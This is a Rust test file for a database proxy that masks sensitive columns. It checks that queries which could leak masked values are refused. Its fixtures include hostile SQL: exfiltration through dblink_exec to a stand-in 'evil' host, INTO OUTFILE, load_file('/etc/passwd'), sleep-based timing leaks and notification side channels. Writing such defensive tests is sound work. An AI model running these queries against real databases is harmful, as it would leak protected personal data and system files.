use super::*;
use crate::sql::{analyze, Analysis, Dialect};

fn statement(sql: &str) -> StatementSummary {
    match analyze(sql) {
        Analysis::Parsed { mut statements } if statements.len() == 1 => statements.remove(0),
        other => panic!("{sql}: {other:?}"),
    }
}

fn rule(columns: &[&str]) -> MaskRule {
    MaskRule {
        columns: columns
            .iter()
            .map(|c| ColumnSpec::parse(c).expect("valid spec"))
            .collect(),
        with: MaskMethod::Redact,
    }
}

#[test]
fn specs_parse_in_one_to_three_parts_lowercased() {
    let spec = ColumnSpec::parse("Email").unwrap();
    assert_eq!(
        (spec.schema, spec.table, &*spec.column),
        (None, None, "email")
    );
    let spec = ColumnSpec::parse("customers.email").unwrap();
    assert_eq!(spec.table.as_deref(), Some("customers"));
    let spec = ColumnSpec::parse("crm.Customers.email").unwrap();
    assert_eq!(spec.to_string(), "crm.customers.email");
    for bad in [
        "",
        "a..b",
        "a.b.c.d",
        "cust'omers.email",
        "\"Email\"",
        "1col",
        "e mail",
        &"x".repeat(64),
    ] {
        let err = ColumnSpec::parse(bad).unwrap_err();
        assert!(err.contains("invalid column"), "{bad}: {err}");
    }
}

#[test]
fn a_spec_names_catalog_columns_without_regard_to_case() {
    let spec = ColumnSpec::parse("customers.email").unwrap();
    assert!(spec.names(Some("public"), "customers", "email"));
    assert!(spec.names(Some("crm"), "Customers", "EMAIL"));
    assert!(!spec.names(Some("public"), "orders", "email"));
    let spec = ColumnSpec::parse("crm.customers.email").unwrap();
    assert!(!spec.names(Some("public"), "customers", "email"));
    assert!(spec.names(None, "customers", "email"), "schema not known");
    assert!(ColumnSpec::parse("email")
        .unwrap()
        .names(Some("any"), "thing", "email"));
}

#[test]
fn a_rule_applies_only_to_statements_reading_a_table_it_names() {
    let r = rule(&["customers.email"]);
    assert!(r.applies_to(&statement("SELECT email FROM customers")));
    assert!(r.applies_to(&statement(
        "SELECT o.id FROM orders o JOIN public.customers c ON c.id = o.customer_id"
    )));
    assert!(r.applies_to(&statement(
        "SELECT x FROM (SELECT email AS x FROM customers) s"
    )));
    assert!(!r.applies_to(&statement("SELECT email FROM orders")));
    assert!(!r.applies_to(&statement("SELECT 1")));
    // A schema written on both sides must agree.
    let r = rule(&["crm.customers.email"]);
    assert!(r.applies_to(&statement("SELECT * FROM customers")));
    assert!(r.applies_to(&statement("SELECT * FROM crm.customers")));
    assert!(!r.applies_to(&statement("SELECT * FROM billing.customers")));
    // A bare column name may be in any table.
    assert!(rule(&["email"]).applies_to(&statement("SELECT id FROM orders")));
}

#[test]
fn only_plain_queries_can_be_masked() {
    assert!(can_mask(
        &statement("SELECT email FROM customers"),
        Dialect::Postgres
    ));
    assert!(can_mask(
        &statement("WITH c AS (SELECT * FROM customers) SELECT * FROM c"),
        Dialect::Postgres
    ));
    for sql in [
        "COPY customers TO STDOUT",
        "CREATE TABLE leak AS SELECT * FROM customers",
        "SELECT * INTO leak FROM customers",
        "INSERT INTO leak SELECT * FROM customers",
        "DECLARE c CURSOR FOR SELECT * FROM customers",
        "EXPLAIN ANALYZE SELECT * FROM customers",
        "PREPARE p AS SELECT * FROM customers",
        "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
        "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING email",
        "INSERT INTO customers VALUES (3, 'a', 'b') returning id",
    ] {
        let s = statement(sql);
        assert!(!can_mask(&s, Dialect::Postgres), "{sql}: {:?}", s.kind);
        assert!(
            rule(&["customers.email"]).applies_to(&s),
            "{sql} reads customers, so the rule applies and the statement is refused"
        );
    }
}

#[test]
fn writes_without_returning_are_left_to_other_rules() {
    let r = rule(&["customers.email"]);
    for sql in [
        "UPDATE customers SET name = 'x' WHERE id = 1",
        "INSERT INTO customers VALUES (3, 'a', 'b')",
        "DELETE FROM customers WHERE id = 3",
    ] {
        assert!(!r.applies_to(&statement(sql)), "{sql}");
    }
}

#[test]
fn fields_are_masked_by_origin_and_computed_ones_in_masked_statements() {
    let mut resolved = ResolvedColumns::default();
    assert!(resolved.add(16384, 3, MaskMethod::Redact));
    assert!(resolved.add(16384, 3, MaskMethod::Null));
    assert!(resolved.add(16384, 3, MaskMethod::Redact));
    assert_eq!(
        resolved.get(16384, 3),
        Some(MaskMethod::Null),
        "strictest wins"
    );
    assert!(resolved.add(16384, 4, MaskMethod::Redact));
    let text = |table_oid, column| FieldOrigin {
        table_oid,
        column,
        is_text: true,
    };
    let redact = FieldMask::Mask(Replacement::Text(REDACTED));
    let null = FieldMask::Mask(Replacement::Null);
    assert_eq!(
        field_mask(&resolved, text(16384, 4), false, MaskMethod::Redact),
        redact
    );
    let int = FieldOrigin {
        table_oid: 16384,
        column: 4,
        is_text: false,
    };
    assert_eq!(field_mask(&resolved, int, false, MaskMethod::Redact), null);
    assert_eq!(
        field_mask(&resolved, text(16384, 1), true, MaskMethod::Redact),
        FieldMask::Keep
    );
    // Computed, whole-row and system fields: masked only where a rule applied.
    for (oid, col) in [(0, 0), (16384, 0), (16384, -1)] {
        assert_eq!(
            field_mask(&resolved, text(oid, col), true, MaskMethod::Redact),
            redact
        );
        assert_eq!(
            field_mask(&resolved, text(oid, col), false, MaskMethod::Redact),
            FieldMask::Keep
        );
    }
}

#[test]
fn functions_that_could_carry_a_masked_value_out_are_refused() {
    let r = rule(&["customers.email"]);
    for sql in [
        "SELECT pg_notify('c', email) FROM customers",
        "SELECT set_config('application_name', email, false) FROM customers",
        "SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM customers",
        "SELECT setval('s', length(email)) FROM customers",
        "SELECT dblink_exec('host=evil', 'insert ' || email) FROM customers",
        "SELECT my_logger(email) FROM customers",
        "SELECT public.lower(email) FROM customers",
        "SELECT id FROM customers WHERE pg_advisory_lock(hashtext(email)) IS NOT NULL",
    ] {
        let s = statement(sql);
        assert!(r.applies_to(&s), "{sql}");
        let why =
            mask_obstacle(&s, Dialect::Postgres).unwrap_or_else(|| panic!("{sql} runs masked"));
        assert!(why.contains("side-effect-free"), "{sql}: {why}");
    }
    for sql in [
        "SELECT upper(email), count(*) FROM customers GROUP BY 1",
        "SELECT pg_catalog.lower(email) FROM customers",
        "SELECT coalesce(email, '-'), length(email) FROM customers WHERE id = 1",
    ] {
        assert_eq!(
            mask_obstacle(&statement(sql), Dialect::Postgres),
            None,
            "{sql}"
        );
    }
}

#[test]
fn planner_statistics_are_refused_where_a_mask_rule_applies() {
    let r = rule(&["customers.email"]);
    for sql in [
        "SELECT histogram_bounds FROM pg_stats WHERE tablename = 'customers'",
        "SELECT * FROM pg_catalog.pg_statistic",
        "SELECT most_common_vals FROM pg_stats_ext",
    ] {
        let s = statement(sql);
        assert!(r.applies_to(&s), "{sql}");
        let why =
            mask_obstacle(&s, Dialect::Postgres).unwrap_or_else(|| panic!("{sql} runs masked"));
        assert!(why.contains("planner statistics"), "{sql}: {why}");
    }
    // A table of the user's own with the same name in another schema is not
    // the catalog.
    assert!(!r.applies_to(&statement("SELECT * FROM app.pg_stats")));
}

fn mysql_statement(sql: &str) -> StatementSummary {
    match crate::sql::mysql::analyze(sql) {
        Analysis::Parsed { mut statements } if statements.len() == 1 => statements.remove(0),
        other => panic!("{sql}: {other:?}"),
    }
}

#[test]
fn mysql_statements_run_masked_only_where_column_origins_hold() {
    for sql in [
        "SELECT id, email FROM customers",
        "SELECT c.email AS e, upper(name), ifnull(email, '-') FROM customers c WHERE id > 1",
        "SELECT count(*), group_concat(email) FROM customers GROUP BY name",
        "SELECT id FROM customers WHERE id IN (SELECT id FROM orders)",
    ] {
        assert_eq!(
            mask_obstacle(&mysql_statement(sql), Dialect::Mysql),
            None,
            "{sql}"
        );
    }
    for (sql, why) in [
        (
            "SELECT email INTO @x FROM customers LIMIT 1",
            "user variable",
        ),
        ("SELECT @x := email FROM customers", "user variable"),
        (
            "SELECT customers.id FROM (SELECT email AS id FROM customers) customers",
            "derived table",
        ),
        (
            "WITH c AS (SELECT email AS id FROM customers) SELECT id FROM c",
            "derived table",
        ),
        (
            "SELECT email FROM customers INTO OUTFILE '/tmp/x'",
            "queries that write nothing",
        ),
        (
            "SELECT load_file('/etc/passwd') FROM customers",
            "queries that write nothing",
        ),
        ("SELECT sleep(ascii(email)) FROM customers", "sleep()"),
        (
            "SELECT last_insert_id(ascii(email)) FROM customers",
            "last_insert_id()",
        ),
        ("SELECT get_lock(email, 0) FROM customers", "get_lock()"),
        // Not a MySQL built-in: a stored function of the current database.
        ("SELECT strpos(email, '@') FROM customers", "strpos()"),
        ("SELECT shop.f(email) FROM customers", "shop.f()"),
        (
            "INSERT INTO leak SELECT email FROM customers",
            "queries that write nothing",
        ),
    ] {
        let s = mysql_statement(sql);
        let obstacle =
            mask_obstacle(&s, Dialect::Mysql).unwrap_or_else(|| panic!("{sql} runs masked"));
        assert!(obstacle.contains(why), "{sql}: {obstacle}");
    }
}
